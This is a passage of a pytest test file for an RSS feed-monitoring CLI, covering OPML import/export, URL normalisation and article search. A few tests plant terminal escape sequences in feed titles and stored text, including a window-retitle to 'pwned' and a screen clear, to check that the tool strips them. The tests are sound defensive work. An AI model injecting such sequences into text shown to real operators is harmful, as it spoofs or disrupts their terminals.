    assert f"{RSS_ITEMS} new articles" in vigie("once", "--config", config).stdout
    again = vigie("once", "--config", config)
    assert "Polled 1 feed (1 unchanged)" in again.stdout, again.output
    assert listed_urls(config, "--all") == [server.url("/new.rss")]
    assert len(server.requests_to("/old.rss")) == 1

    # Added by its new address, it is still the feed config.toml lists, with its settings.
    added = vigie("feeds", "add", server.url("/new.rss"), "--interval", "2d", "--config", config)
    assert f"is listed in {config} as {server.url('/old.rss')}" in added.stdout, added.output
    assert [row[3] for row in feed_settings(config)] == [None]


def feed_settings(config: Path) -> list[tuple[str, str, list[str], float | None, str]]:
    rows = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    return [(r["url"], r["name"], r["tags"], r["interval"], r["source"]) for r in rows]


def test_adding_a_known_feed_again_keeps_what_was_not_given(
    write_config: Callable[..., Path],
) -> None:
    config = write_config([])
    url = "https://cnn.example/rss"
    vigie(
        "feeds", "add", url, "--name", "CNN", "--tag", "us", "--interval", "2h", "--config", config
    )
    again = vigie("feeds", "add", url, "--config", config)
    assert again.exit_code == 0
    assert f"Feed 1: {url} (already existed; nothing changed)" in again.stdout
    assert feed_settings(config) == [(url, "CNN", ["us"], 7200, "cli")]

    renamed = vigie("feeds", "add", url, "--name", "CNN US", "--interval", "2h", "--config", config)
    assert 'already existed; changed name "CNN" -> "CNN US")' in renamed.stdout
    retagged = vigie("feeds", "add", url, "--tag", "world", "--interval", "30m", "--config", config)
    assert 'changed interval 7200s -> 1800s, tags ["us"] -> ["world"]' in retagged.stdout
    assert feed_settings(config) == [(url, "CNN US", ["world"], 1800, "cli")]


def test_import_adds_only_new_feeds_and_counts_them_honestly(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config(["https://configured.example/rss"])
    known = "https://cnn.example/rss"
    vigie(
        "feeds",
        "add",
        known,
        "--name",
        "CNN",
        "--tag",
        "us",
        "--interval",
        "2h",
        "--config",
        config,
    )
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<opml version="2.0"><body>'
        f'<outline text="Cable News" xmlUrl="{known}"/>'
        '<outline text="Configured" xmlUrl="https://configured.example/rss"/>'
        '<outline text="First" xmlUrl="https://new.example/rss"/>'
        '<outline text="Second" xmlUrl="https://new.example/rss"/>'
        "</body></opml>"
    )
    imported = vigie("feeds", "import", opml, "--config", config)
    assert imported.exit_code == 0, imported.output
    assert f"Imported 1 new feeds from {opml}; 2 already known" in imported.stdout
    assert "Skipped https://new.example/rss: listed twice in this file" in imported.stdout
    assert feed_settings(config) == [
        ("https://configured.example/rss", "", [], None, "config"),
        (known, "CNN", ["us"], 7200, "cli"),
        ("https://new.example/rss", "First", [], None, "opml"),
    ]
    again = vigie("feeds", "import", opml, "--config", config)
    assert f"Imported 0 new feeds from {opml}; 3 already known" in again.stdout


def test_adding_a_feed_config_lists_changes_nothing(write_config: Callable[..., Path]) -> None:
    """Its settings are config.toml's: a name given here would be undone by the next command."""
    config = write_config([{"url": "https://configured.example/rss", "name": "Conf"}])
    added = vigie(
        "feeds", "add", "https://configured.example/rss", "--name", "X", "--config", config
    )
    assert added.exit_code == 0
    assert "is listed in" in added.stdout and "nothing changed" in added.stdout
    assert feed_settings(config) == [("https://configured.example/rss", "Conf", [], None, "config")]


def test_adding_a_retired_feed_brings_it_back_as_added_by_hand(
    write_config: Callable[..., Path],
) -> None:
    url = "https://dropped.example/rss"
    earlier = write_config([{"url": url, "name": "Dropped"}])
    stored_database(earlier)
    vigie("feeds", "list", "--config", earlier)  # the feed is stored
    emptied = write_config([])
    assert listed_urls(emptied) == []
    added = vigie("feeds", "add", url, "--tag", "kept", "--config", emptied)
    assert "Feed 1: " in added.stdout and "polled again" in added.stdout
    assert feed_settings(emptied) == [(url, "Dropped", ["kept"], None, "cli")]


def test_counts_in_the_thousands_are_written_with_their_separator(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """An NGO importing 2,000 feeds read "Imported 2000 new feeds", then "Polled 2000 feeds:
    39710 new articles" from `once` beside "39,710 stored" from `status`."""
    config = write_config([])
    opml = tmp_path / "ngo.opml"
    outlines = "".join(
        f'<outline text="Gazette {i}" xmlUrl="https://gazette{i}.example/rss"/>'
        for i in range(1200)
    )
    opml.write_text(f'<opml version="2.0"><body>{outlines}</body></opml>')
    imported = vigie("feeds", "import", str(opml), "--config", config)
    assert "Imported 1,200 new feeds" in imported.stdout, imported.stdout
    shown = vigie("status", "--config", config).stdout
    assert "polling     1,200 feeds, last poll never" in shown, shown
    listed = vigie("feeds", "list", "--tag", "none", "--config", config)
    assert "0 feeds of 1,200 (--tag none)" in listed.stderr


def test_importing_a_retired_feed_says_it_is_polled_again_not_new(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    url = "https://dropped.example/rss"
    earlier = write_config([{"url": url, "name": "Dropped"}])
    stored_database(earlier)
    vigie("feeds", "list", "--config", earlier)  # the feed is stored
    emptied = write_config([])
    opml = tmp_path / "back.opml"
    opml.write_text(f'<opml version="2.0"><body><outline xmlUrl="{url}"/></body></opml>')
    imported = vigie("feeds", "import", opml, "--config", emptied)
    assert f"Imported 0 new feeds from {opml}; 1 retired feeds polled again" in imported.stdout
    assert listed_urls(emptied) == [url]


def test_opml_export_imports_into_another_database(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    source = write_config(
        [
            {"url": "https://a.example/rss", "name": "Alpha & Co", "tags": ["uk", "wire"]},
            {"url": "https://b.example/atom?x=1&y=2", "name": "Beta"},
            "https://c.example/feed.json",
        ]
    )
    exported = vigie("feeds", "export", "--config", source)
    assert exported.exit_code == 0
    opml = tmp_path / "feeds.opml"
    opml.write_text(exported.stdout, encoding="utf-8")
    outlines = ET.parse(opml).getroot().findall("./body/outline")
    assert [o.get("xmlUrl") for o in outlines] == [
        "https://a.example/rss",
        "https://b.example/atom?x=1&y=2",
        "https://c.example/feed.json",
    ]

    target = write_config([], name="other.toml", database="other/vigie.db")
    imported = vigie("feeds", "import", opml, "--config", target)
    assert imported.exit_code == 0
    assert f"Imported 3 new feeds from {opml}" in imported.stdout
    assert (tmp_path / "other" / "vigie.db").is_file()
    rows = json.loads(vigie("feeds", "list", "--json", "--config", target).stdout)
    assert [(r["url"], r["name"], r["source"]) for r in rows] == [
        ("https://a.example/rss", "Alpha & Co", "opml"),
        ("https://b.example/atom?x=1&y=2", "Beta", "opml"),
        ("https://c.example/feed.json", "https://c.example/feed.json", "opml"),
    ]
    # Tags travel as OPML's category: rules scoped to a feed tag still match after the move.
    assert [r["tags"] for r in rows] == [["uk", "wire"], [], []]


def test_import_tags_feeds_with_the_folders_they_are_in(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """Feed readers (Feedly, Inoreader, NetNewsWire, Miniflux) export their folders as outlines
    holding the feeds': their names were lost, and rules scoped to them matched nothing."""
    opml = tmp_path / "feedly.opml"
    opml.write_text(
        '<opml version="1.0"><head><title>Feedly</title></head><body>'
        '<outline text="News" title="News">'
        '<outline text="ignored" title=" World&#10;">'
        '<outline type="rss" text="Wire" xmlUrl="https://wire.example/rss" category="breaking"/>'
        "</outline>"
        '<outline type="rss" text="Daily" xmlUrl="https://daily.example/rss"/>'
        "</outline>"
        '<outline text="Blogs"><outline type="rss" text="B" xmlUrl="https://b.example/rss"/>'
        "</outline>"
        '<outline type="rss" text="Loose" xmlUrl="https://loose.example/rss"/>'
        "</body></opml>"
    )
    config = write_config([])
    imported = vigie("feeds", "import", opml, "--config", config)
    assert f"Imported 4 new feeds from {opml}" in imported.stdout, imported.output
    assert [(url, tags) for url, _, tags, _, _ in feed_settings(config)] == [
        ("https://wire.example/rss", ["News", "World", "breaking"]),
        ("https://daily.example/rss", ["News"]),
        ("https://b.example/rss", ["Blogs"]),
        ("https://loose.example/rss", []),
    ]


def test_import_says_which_entries_have_no_feed_address(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """An entry with only its website's address (htmlUrl), or its xmlUrl spelt xmlurl or
    XMLURL as some exporters write it, vanished from the import without a word."""
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<opml version="2.0"><body>'
        '<outline text="Site only" htmlUrl="https://site.example/"/>'
        '<outline type="rss" title="Empty" xmlUrl=" "/>'
        '<outline text="Lower" xmlurl="https://lower.example/rss"/>'
        '<outline text="Upper" XMLURL="https://upper.example/rss" type="RSS"/>'
        '<outline text="Folder"><outline text="In" xmlUrl="https://in.example/rss"/></outline>'
        '<outline text="A note, not a feed"/>'
        "</body></opml>"
    )
    config = write_config([])
    imported = vigie("feeds", "import", opml, "--config", config)
    assert f"Imported 3 new feeds from {opml}" in imported.stdout, imported.output
    assert [line for line in imported.stdout.splitlines() if line.startswith("Skipped")] == [
        'Skipped "Site only" (https://site.example/): no xmlUrl (a feed address)',
        'Skipped "Empty": no xmlUrl (a feed address)',
    ]
    assert listed_urls(config) == [
        "https://lower.example/rss",
        "https://upper.example/rss",
        "https://in.example/rss",
    ]


def test_feed_tags_are_cleaned_alike_wherever_they_are_given(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A tag with spaces or a tab around it (" uk", pasted) was stored as given: a rule scoped
    to "uk" did not see that feed. A blank one is refused in config.toml as by `feeds add`."""
    config = write_config([{"url": "https://configured.example/rss", "tags": [" uk\t", "uk"]}])
    added = vigie("feeds", "add", "https://added.example/rss", "--tag", " uk ", "--config", config)
    assert added.exit_code == 0, added.output
    assert [tags for _, _, tags, _, _ in feed_settings(config)] == [["uk"], ["uk"]]
    blank = write_config([{"url": "https://configured.example/rss", "tags": ["uk", " "]}])
    assert_one_line_error(
        vigie("feeds", "list", "--config", blank), "feeds[0].tags: expected a word"
    )


def test_an_address_differing_in_the_case_of_its_scheme_or_host_is_the_same_feed(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """http://LOCALHOST:8080/f.xml and http://localhost:8080/f.xml were imported as two feeds,
    both polled, each match sent twice. The path and query keep their case: the server's."""
    opml = tmp_path / "subs.opml"
    opml.write_text(
        '<opml version="2.0"><body>'
        '<outline text="A" xmlUrl="HTTP://LOCALHOST:8080/f.xml"/>'
        '<outline text="B" xmlUrl="http://localhost:8080/f.xml"/>'
        '<outline text="C" xmlUrl="https://News.Example/Path/Feed?Q=A"/>'
        "</body></opml>"
    )
    config = write_config([])
    imported = vigie("feeds", "import", opml, "--config", config)
    assert f"Imported 2 new feeds from {opml}" in imported.stdout, imported.output
    assert "Skipped http://localhost:8080/f.xml: listed twice in this file" in imported.stdout
    stored = ["http://localhost:8080/f.xml", "https://news.example/Path/Feed?Q=A"]
    assert listed_urls(config) == stored
    again = vigie("feeds", "add", "http://Localhost:8080/f.xml", "--config", config)
    assert "Feed 1: http://localhost:8080/f.xml (already existed" in again.stdout, again.output
    other_path = vigie("feeds", "add", "https://news.example/path/feed?q=a", "--config", config)
    assert "polled on the next cycle" in other_path.stdout
    assert listed_urls(config) == [*stored, "https://news.example/path/feed?q=a"]

    removed = vigie("feeds", "remove", "http://LOCALHOST:8080/f.xml", "--config", config)
    assert removed.exit_code == 0, removed.output
    listing = write_config(
        ["https://NEWS.example/Path/Feed?Q=A", "https://news.example/path/feed?q=a"]
    )
    assert listed_urls(listing) == stored[1:] + ["https://news.example/path/feed?q=a"]
    added = vigie("feeds", "add", "HTTPS://news.example/Path/Feed?Q=A", "--config", listing)
    assert "is listed in" in added.stdout, added.output
    assert [row[4] for row in feed_settings(listing)] == ["config", "config"]


def test_a_feed_stored_with_its_host_in_capitals_is_found_in_lower_case(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A feed stored before hosts were lower-cased is the one an import, `feeds add` or
    config.toml names in lower case, not a second feed beside it."""
    config = write_config([])
    vigie("feeds", "add", "http://localhost:8080/f.xml", "--tag", "kept", "--config", config)
    with sqlite3.connect(config.parent / "data" / "vigie.db") as db:
        db.execute("UPDATE feeds SET url = ?, added_url = ?", ["http://LOCALHOST:8080/f.xml"] * 2)
    db.close()
    opml = tmp_path / "subs.opml"
    opml.write_text('<opml><body><outline xmlUrl="http://localhost:8080/f.xml"/></body></opml>')
    imported = vigie("feeds", "import", opml, "--config", config)
    assert "Imported 0 new feeds" in imported.stdout and "1 already known" in imported.stdout
    listing = write_config(["http://localhost:8080/f.xml"])
    assert listed_urls(listing, "--all") == ["http://LOCALHOST:8080/f.xml"]


def test_import_of_a_broken_opml_is_one_line(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    bad = tmp_path / "bad.opml"
    bad.write_text("<opml><body><outline xmlUrl='x'></body>")
    result = vigie("feeds", "import", bad, "--config", write_config([]))
    assert_one_line_error(result, "bad.opml", "not a valid OPML file")


def test_an_opml_title_over_several_lines_is_stored_as_one(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A subscription list from elsewhere named a feed over 12 lines, with control characters:
    a fake section in every digest, and 12 lines of `feeds list`."""
    opml = tmp_path / "x.opml"
    opml.write_text(
        '<opml version="2.0"><body><outline title="Evil&#10;&#10;== URGENT ==&#155;2J"'
        ' xmlUrl="https://evil.example/feed"/></body></opml>'
    )
    config = write_config([])
    assert vigie("feeds", "import", opml, "--config", config).exit_code == 0
    [row] = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    assert row["name"] == "Evil == URGENT == 2J"


def test_what_the_terminal_shows_of_a_snippet_has_no_control_characters() -> None:
    """U+009B is a terminal's CSI: kept in a snippet, `articles search` printed it raw."""
    from monitor.cli_common import highlighted

    shown = highlighted("Police \u009b2J ⟦migrants\x1b[31m⟧ \x07")
    assert shown.plain == "Police 2J migrants "


def test_import_of_a_feed_instead_of_an_opml_file_is_refused(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """An RSS file given to `feeds import` said "Imported 0 new feeds"."""
    result = vigie("feeds", "import", SAMPLES / "coastal-herald.rss", "--config", write_config([]))
    assert_one_line_error(result, "coastal-herald.rss", "not an OPML file", "<rss>")


def test_articles_search_finds_a_stored_article(feed_config: Path) -> None:
    vigie("once", "--config", feed_config)
    found = vigie("articles", "search", "pepper spray", "--json", "--config", feed_config)
    assert found.exit_code == 0
    rows = json.loads(found.stdout)
    assert (
        rows[0]["title"] == "Officers filmed using pepper spray on people sleeping at Calais camp"
    )
    assert rows[0]["feed_name"] == "Coastal"
    text = vigie("articles", "search", "pepper", "--config", feed_config)
    assert "Officers filmed using pepper spray" in text.stdout
    none = vigie("articles", "search", "zeppelin", "--config", feed_config)
    assert none.exit_code == 0 and "No article matches." in none.stdout
    # Results stopped at --limit said nothing: a researcher took 20 for all there were.
    every = json.loads(
        vigie("articles", "search", "calais", "--json", "--config", feed_config).stdout
    )
    assert len(every) >= 3
    cut = vigie("articles", "search", "calais", "--limit", "2", "--config", feed_config)
    assert f"2 of {len(every)} articles shown, the best first (--limit shows more)" in cut.stderr
    assert (
        "articles shown"
        not in vigie("articles", "search", "calais", "--config", feed_config).stderr
    )


def test_articles_search_since_a_date(tmp_path: Path, write_config: Callable[..., Path]) -> None:
    """A researcher's review: search could not be limited to a period."""
    items = "".join(
        f"<item><title>Calais {title}</title><link>https://news.example/{title}</link>"
        f"<pubDate>{date}</pubDate><description>Ferries and camps in Calais.</description></item>"
        for title, date in [
            ("harbour", "Thu, 01 Oct 2026 08:00:00 GMT"),
            ("camp", "Tue, 10 Nov 2026 08:00:00 GMT"),
        ]
    )
    (tmp_path / "f.rss").write_text(
        f'<rss version="2.0"><channel><title>News</title>{items}</channel></rss>'
    )
    config = write_config([str(tmp_path / "f.rss")])
    vigie("once", "--config", config)

    def titles(*options: str) -> list[str]:
        found = vigie("articles", "search", "calais", "--json", *options, "--config", config)
        assert found.exit_code == 0, found.output
        return sorted(row["title"] for row in json.loads(found.stdout))

    assert titles() == ["Calais camp", "Calais harbour"]
    assert titles("--since", "2026-11-01") == ["Calais camp"]
    cut = vigie("articles", "search", "calais", "--since", "2026-09-01", "--limit", "1",
                "--config", config)  # fmt: skip
    assert "1 of 2 articles shown" in cut.stderr
    wrong = vigie("articles", "search", "calais", "--since", "last week", "--config", config)
    assert wrong.exit_code != 0 and "--since" in wrong.output and "Traceback" not in wrong.output


def test_feed_text_and_search_words_are_shown_as_written_not_as_emoji(
    tmp_path: Path, server: LoopbackServer, write_config: Callable[..., Path]
) -> None:
    """rich read ":fire:" in a feed's title as an emoji shortcode: "[Live] :fire: Flood Desk"
    was listed as "🔥", and `articles search 'a:b:c'` said it searched "a🅱c"."""
    title = "[Live] :fire: Flood Desk"
    headline = "Flood :warning: river :fire: rising"
    server.route(
        "/flood.rss",
        rss([Item("f1", headline, "The :fire: brigade waits for the flood :b: crest.")], title),
    )
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "flood.toml").write_text('[[rule]]\nid = "flood"\nquery = "flood"\n', "utf-8")
    config = write_config([server.url("/flood.rss")], rules={"paths": [str(rules)]})
    assert vigie("once", "--config", config).exit_code == 0
    [article] = json.loads(
        vigie("articles", "search", "flood", "--json", "--config", config).stdout
    )
    shown = {
        "feeds list": vigie("feeds", "list", "--config", config),
        "articles search": vigie("articles", "search", "flood", "--config", config),
        "articles show": vigie("articles", "show", str(article["id"]), "--config", config),
        "searched as words": vigie("articles", "search", "a:b:c", "--config", config),
        "rules test": vigie("rules", "test", "--text", headline, "--config", config),
    }
    for command, result in shown.items():
        assert result.exit_code in (0, 1), (command, result.output)
        assert "🔥" not in result.output and "🅱" not in result.output, (command, result.output)
        assert "⚠" not in result.output, (command, result.output)
    assert "[Live] :fire:" in shown["feeds list"].stdout  # the column folds the rest
    assert headline in shown["articles search"].stdout
    assert title in shown["articles show"].stdout and headline in shown["articles show"].stdout
    assert ":fire: brigade" in shown["articles show"].stdout  # the match's snippet
    assert "a:b:c" in shown["searched as words"].stderr
    assert headline in shown["rules test"].stdout


def test_articles_search_shows_a_snippet_in_one_piece(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """The text's blank lines broke the snippet into pieces under its title."""
    feed = tmp_path / "para.rss"
    feed.write_text(
        '<rss version="2.0"><channel><title>P</title><item><title>Dawn at the port</title>'
        "<link>https://news.example/p</link><description>Police arrived at dawn.\n\n"
        "Migrants were moved from the harbour.</description></item></channel></rss>"
    )
    config = write_config([str(feed)])
    vigie("once", "--config", config)
    found = vigie("articles", "search", "harbour", "--config", config).stdout
    assert "dawn. Migrants were moved" in found, found
    assert vigie("articles", "search", "harbour", "--limit", "0", "--config", config).exit_code == 2


def test_articles_show_says_why_an_article_matched_and_where_it_went(tmp_path: Path) -> None:
    """An operator asked why a subscriber got an article: its matches, the words that made
    them, its story and the digest that carried it, in one command."""
    config = write_delivery_config(tmp_path, subscribers=[IMMEDIATE_DESK])
    assert vigie("once", "--config", config).exit_code == 0
    with sqlite3.connect(tmp_path / "data" / "vigie.db") as db:
        (article_id,) = db.execute(
            "SELECT id FROM articles WHERE title LIKE 'Officers filmed using pepper spray%'"
        ).fetchone()
        rules = {
            r
            for (r,) in db.execute("SELECT rule_id FROM matches WHERE article_id = ?", [article_id])
        }
    shown = vigie("articles", "show", str(article_id), "--json", "--config", config)
    assert shown.exit_code == 0, shown.output
    record = json.loads(shown.stdout)
    assert record["title"].startswith("Officers filmed using pepper spray")
    assert record["feed"] == "The Coastal Herald"
    assert {m["rule_id"] for m in record["matches"]} == rules and "police-violence" in rules
    violence = next(m for m in record["matches"] if m["rule_id"] == "police-violence")
    assert any(e["text"].lower() == "pepper spray" for e in violence["evidence"])
    [digest] = record["deliveries"]
    assert (digest["kind"], digest["target"], digest["status"]) == ("digest", "desk", "sent")
    assert set(digest["rules"]) == rules

    text = vigie("articles", "show", str(article_id), "--config", config).stdout
    assert "Officers filmed using pepper spray" in text
    assert "Matched police-violence [police-violence]" in text
    assert re.search(r"in title: .*pepper spray", text, re.IGNORECASE), text
    assert "Delivery #1 digest to desk: sent" in text
    assert "(--text shows them)" in text and record["content"] not in text

    # A researcher reading the article itself: the summary and text as stored.
    assert record["summary"] and record["content"]
    full = vigie("articles", "show", str(article_id), "--text", "--config", config).stdout
    assert record["summary"] in full and record["content"] in full, full

    missing = vigie("articles", "show", "999", "--config", config)
    assert_one_line_error(missing, "no article 999")


def test_articles_show_text_prints_no_escape_sequence_it_stored(tmp_path: Path) -> None:
    """--text prints the summary and text as stored, but not a terminal's controls: text
    stored before they were dropped at the source cleared the screen or retitled the window
    of the operator reading it (a security review), as the titles printed elsewhere cannot."""
    config = write_delivery_config(tmp_path, subscribers=[IMMEDIATE_DESK])
    assert vigie("once", "--config", config).exit_code == 0
    with sqlite3.connect(tmp_path / "data" / "vigie.db") as db:
        (article_id,) = db.execute("SELECT id FROM articles LIMIT 1").fetchone()
        db.execute(
            "UPDATE articles SET summary = ?, content = ? WHERE id = ?",
            ["Calm \x1b]0;pwned\x07summary", "Boats \x1b[2Jleft \u009b31mat dawn", article_id],
        )
    full = vigie("articles", "show", str(article_id), "--text", "--config", config).stdout
    assert "\x1b" not in full and "\u009b" not in full and "\x07" not in full, repr(full)
    assert "Calm summary" in full and "Boats left " in full, full


def test_a_full_disk_is_one_error_line(feed_config: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`once` (and `run` starting again) on a full disk printed SQLite's traceback."""
    opened = Store.__init__

    def on_a_full_disk(self: Store, *args: object, **kwargs: object) -> None:
        opened(self, *args, **kwargs)
        [(pages,)] = self.db.execute("PRAGMA page_count").fetchall()
        self.db.execute(f"PRAGMA max_page_count = {pages}")  # SQLite's own "disk is full"

    Store(feed_config.parent / "data" / "vigie.db").close()  # made before the disk filled
    monkeypatch.setattr(Store, "__init__", on_a_full_disk)
    result = vigie("once", "--config", feed_config)
    assert_one_line_error(result, "could not be written (database or disk is full)", "free")


def test_articles_search_syntax_error_is_one_line(feed_config: Path) -> None:
    vigie("once", "--config", feed_config)
    result = vigie("articles", "search", "calais AND", "--config", feed_config)
    assert_one_line_error(result, "search query")
    starred = vigie("articles", "search", "*", "--config", feed_config)
    assert_one_line_error(starred, "search query '*': nothing to search for")
    # What was wrong, not FTS5's `syntax error near ""` (a researcher's review).
    for query, said in [
        ("calais NOT", "NOT at the end: give a term after it"),
        ("NOT police", "NOT goes between two terms (calais NOT football), not first"),
        ("(police OR calais", "a parenthesis is not closed"),
        ("police OR OR calais", "OR OR: give a term after OR"),
    ]:
        mistaken = vigie("articles", "search", query, "--config", feed_config)
        assert_one_line_error(mistaken, f"search query {query!r}: {said}")


def test_a_search_with_no_database_there_creates_none(tmp_path: Path, feed_config: Path) -> None:
    """A mistyped storage.database made its folders and an empty database, and the search
    then said that no article matched."""
    config = feed_config.read_text().replace('"data/vigie.db"', '"dta/vigie.db"')
    feed_config.write_text(config)
    result = vigie("articles", "search", "calais", "--config", feed_config)
    assert_one_line_error(result, "storage.database: no database there yet", "dta/vigie.db")
    assert not (feed_config.parent / "dta").exists()


@pytest.mark.parametrize(
    "command",
    [
        ("deliveries", "list"),
        ("deliveries", "retry", "1"),
        ("deliveries", "replay", "--since", "1d"),
    ],
)
def test_commands_that_read_what_is_stored_create_no_database(
    feed_config: Path, command: tuple[str, ...]
) -> None:
    """`deliveries list` at a mistyped storage.database made an empty database there and
    said there were no deliveries."""
    config = feed_config.read_text().replace('"data/vigie.db"', '"dta/vigie.db"')
    feed_config.write_text(config)
    result = vigie(*command, "--config", feed_config)
    assert_one_line_error(result, "storage.database: no database there yet", "dta/vigie.db")
    assert not (feed_config.parent / "dta").exists()


@pytest.mark.parametrize("command", [("feeds", "list"), ("feeds", "export")])
def test_feeds_before_any_database_are_config_toml_s_with_a_note(
    feed_config: Path, command: tuple[str, ...]
) -> None:
    """A mistyped storage.database made its folders and an empty database, and `feeds list`
    showed every feed as never polled: nothing said the path was wrong."""
    config = feed_config.read_text().replace('"data/vigie.db"', '"dta/vigie.db"')
    feed_config.write_text(config)
    result = vigie(*command, "--config", feed_config)
    assert result.exit_code == 0, result.output
    assert "no database at" in result.stderr and "dta/vigie.db yet" in result.stderr
    listed = str(tomllib.loads(config)["feeds"][0]["url"])
    assert listed in "".join(result.stdout.split()), result.stdout
    assert not (feed_config.parent / "dta").exists()


def test_articles_search_takes_everyday_words_fts_would_read_as_syntax(feed_config: Path) -> None:
    """pepper-spray, l'immigration, "unbalanced: searched as the words they hold."""
    vigie("once", "--config", feed_config)
    for query in (
        "pepper-spray",
        "officers' pepper-spray",
        '"pepper spray',
        "title:pepp* officers'",
    ):
        found = vigie("articles", "search", query, "--json", "--config", feed_config)
        assert found.exit_code == 0, found.output
        titles = [row["title"] for row in json.loads(found.stdout)]
        assert "Officers filmed using pepper spray on people sleeping at Calais camp" in titles
    # A column filter keeps its meaning: "tents" is in the text, not in any title.
    anywhere = vigie("articles", "search", "tents* officers'", "--json", "--config", feed_config)
    assert len(json.loads(anywhere.stdout)) == 1
    titles = vigie(
        "articles", "search", "title:tents* officers'", "--json", "--config", feed_config
    )
    assert titles.exit_code == 0 and json.loads(titles.stdout) == []
    # Phrases and parentheses keep their meaning beside such a word (each piece was quoted
    # alone: "spray pepper" became two words, and (zeppelin a word).
    for query, found in (
        ('"pepper spray" officers\'', True),
        ('"spray pepper" officers\'', False),
        ("(zeppelin OR pepper) officers'", True),
        ('title:"pepper spray" officers\'', True),
        ('title:"tents" officers\'', False),
    ):
        rows = json.loads(
            vigie("articles", "search", query, "--json", "--config", feed_config).stdout
        )
        assert bool(rows) is found, query


def test_articles_search_says_which_words_it_did_not_take_as_operators(
    feed_config: Path,
) -> None:
    """`OQTF OU rétention` searched for the word "ou" beside both and found nothing, without a
    word of why (a French analyst's review): the words rules check warns of are named, with
    what to write; a quoted one is the word asked for."""
    vigie("once", "--config", feed_config)
    said = vigie("articles", "search", "pepper OU zeppelin", "--config", feed_config)
    assert said.exit_code == 0, said.output
    assert "No article matches." in said.stdout
    assert (
        "OU is searched as a word, not taken as an operator: write OR (operators are English"
        ' words in capitals; quote "OU" to search for the word)'
    ) in " ".join(said.stderr.split())
    near = vigie("articles", "search", "(pepper PRÈS/5 Calais) and tents", "--config", feed_config)
    assert "PRÈS/5 is searched as a word, not taken as an operator: write NEAR(a b, 5)" in (
        " ".join(near.stderr.split())
    )
    assert "and is searched as a word" in " ".join(near.stderr.split())
    plain = vigie("articles", "search", 'pepper OR "ou"', "--config", feed_config)
    assert plain.exit_code == 0 and "operator" not in plain.stderr
    found = vigie("articles", "search", "pepper OR zeppelin", "--json", "--config", feed_config)
    assert json.loads(found.stdout) and "operator" not in found.stderr


def test_articles_search_finds_every_form_of_a_word_with_a_tilde(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A researcher's search for `slap` missed "slapped", `expulsion` "expulsions", and
    `interpellé` "interpellés" and "interpeller": word~ finds them as rules do, with the
    stemmer of each article's language."""
    feeds = []
    for language, items in {
        "en": [
            ("Officer slapped a handcuffed migrant", "Thu, 01 Oct 2026 08:00:00 GMT"),
            ("Slapping incident at the border", "Tue, 10 Nov 2026 08:00:00 GMT"),
            ("Expulsions resume at the border", "Tue, 10 Nov 2026 09:00:00 GMT"),
        ],
        "fr": [
            ("Deux exilés interpellés à Calais", "Tue, 10 Nov 2026 10:00:00 GMT"),
            ("La préfecture veut interpeller les passeurs", "Tue, 10 Nov 2026 11:00:00 GMT"),
        ],
    }.items():
        path = tmp_path / f"{language}.rss"
        path.write_text(
            f'<rss version="2.0"><channel><title>{language}</title>'
            + "".join(
                f"<item><title>{title}</title><link>https://news.example/{language}{n}</link>"
                f"<pubDate>{date}</pubDate><description>Reported today.</description></item>"
                for n, (title, date) in enumerate(items)
            )
            + "</channel></rss>",
            encoding="utf-8",
        )
        feeds.append({"url": str(path), "language": language})
    config = write_config(feeds)
    assert vigie("once", "--config", config).exit_code == 0

    def found(*args: str) -> list[str]:
        result = vigie("articles", "search", *args, "--json", "--config", config)
        assert result.exit_code == 0, result.output
        return sorted(row["title"] for row in json.loads(result.stdout))

    assert found("slap~") == [
        "Officer slapped a handcuffed migrant",
        "Slapping incident at the border",
    ]
    assert found("expulsion~") == ["Expulsions resume at the border"]
    assert found("interpellé~") == [
        "Deux exilés interpellés à Calais",
        "La préfecture veut interpeller les passeurs",
    ]
    assert found("slap~ NOT border") == ["Officer slapped a handcuffed migrant"]
    assert found("slap migrant", "--stem") == ["Officer slapped a handcuffed migrant"]
    assert found("slap~", "--since", "2026-11-01") == ["Slapping incident at the border"]
    shown = vigie("articles", "search", "slap~ migrant", "--config", config).stdout
    assert re.search(r"Officer slapped a handcuffed migrant #\d+ en 2026-10-01", shown), shown
    snippets = json.loads(vigie("articles", "search", "slap~", "--json", "--config", config).stdout)
    assert {row["snippet"] for row in snippets} == {
        "Officer ⟦slapped⟧ a handcuffed migrant",
        "⟦Slapping⟧ incident at the border",
    }
    cut = vigie("articles", "search", "slap~", "--limit", "1", "--config", config)
    assert "1 of 2 articles shown, the best first (--limit shows more)" in cut.stderr
    # Without a ~, words as written, as before; when that finds nothing, it says what would.
    exact = vigie("articles", "search", "slap", "--config", config)
    assert "No article matches." in exact.stdout
    assert (
        "2 articles have other forms of these words: search with --stem, or word~ for one word"
        in " ".join(exact.stderr.split())
    )
    for query, said in [
        ("slap~*", "a word ends with ~ (all its forms: slap~) or * (every word it starts"),
        ("NOT slap~", "NOT goes between two terms (calais NOT football), not first"),
        ("(slap~ OR kick~", "a parenthesis is not closed"),
        ("NEAR(slap~ border)", "NEAR( ) takes words all with ~ or all without"),
    ]:
        mistaken = vigie("articles", "search", query, "--config", config)
        assert_one_line_error(mistaken, f"search query {query!r}: {said}")


def wait_for(condition: Callable[[], bool], what: str, log: Path, limit: float = 30) -> None:
    """Wait for a subprocess to reach a state; fail with its log if it never does."""
    end = time.monotonic() + limit
    while not condition():
        if time.monotonic() > end:
            pytest.fail(f"gave up waiting for {what}; log:\n{log.read_text()}")
